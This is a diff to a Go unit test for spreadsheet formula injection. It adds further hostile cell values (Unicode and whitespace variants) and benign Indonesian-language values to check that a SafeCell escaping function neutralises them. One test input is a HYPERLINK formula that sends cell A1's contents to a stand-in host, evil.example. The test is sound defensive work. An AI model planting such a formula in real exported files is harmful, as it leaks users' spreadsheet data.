@@ -11,8 +11,9 @@ import (
 
 // A cell that a spreadsheet would run as a formula is written as text.
 func TestFormulaInjection(t *testing.T) {
-	evil := []string{`=HYPERLINK("http://evil.example/?"&A1,"klik")`, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"}
-	fine := []string{"Laki-laki", "0-5", "25-44", "Pacar/Teman", "", "3524/2026/00001"}
+	evil := []string{`=HYPERLINK("http://evil.example/?"&A1,"klik")`, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
+		" =1+1", "\n=1+1", "＝1+1", " ＋1", "\u00a0@SUM(A1)", "\u3000－2"}
+	fine := []string{"Laki-laki", "0-5", "25-44", "Pacar/Teman", "", "3524/2026/00001", " Sukorejo", "１２ tahun"}
 	for _, s := range evil {
 		if got := SafeCell(s); !strings.HasPrefix(got, "'") {
 			t.Errorf("SafeCell(%q) = %q: still a formula", s, got)
